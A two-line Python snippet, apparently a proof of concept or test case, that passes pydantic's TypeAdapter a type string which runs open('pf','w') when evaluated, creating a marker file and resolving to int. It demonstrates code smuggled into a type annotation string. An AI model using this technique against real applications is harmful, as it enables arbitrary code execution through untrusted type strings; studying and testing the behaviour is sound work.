import pydantic
pydantic.TypeAdapter("[open('pf','w'), int][1]")
